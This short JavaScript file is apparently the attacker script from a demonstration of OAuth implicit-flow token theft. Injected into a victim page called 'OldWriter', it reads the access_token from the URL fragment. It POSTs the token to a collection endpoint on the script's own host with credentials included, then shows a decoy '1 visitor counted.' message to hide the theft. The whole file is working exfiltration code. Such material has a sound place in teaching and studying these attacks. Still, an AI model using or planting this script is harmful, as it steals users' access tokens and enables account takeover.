/* global document, location */
// The injected script: it runs in OldWriter's page, so it reads what OldWriter's page can read, and sends it home.
const loot = new URLSearchParams(location.hash.slice(1)).get('access_token');
const home = new URL('/museum/implicit/collect', document.querySelector('script[data-home]').src);

if (loot) {
  fetch(home, {
    method: 'POST',
    mode: 'no-cors',
    credentials: 'include',
    keepalive: true,
    body: new URLSearchParams({ access_token: loot }),
  })
    .then(() => (document.getElementById('statistics').textContent = '1 visitor counted.'))
    .catch(() => undefined);
}
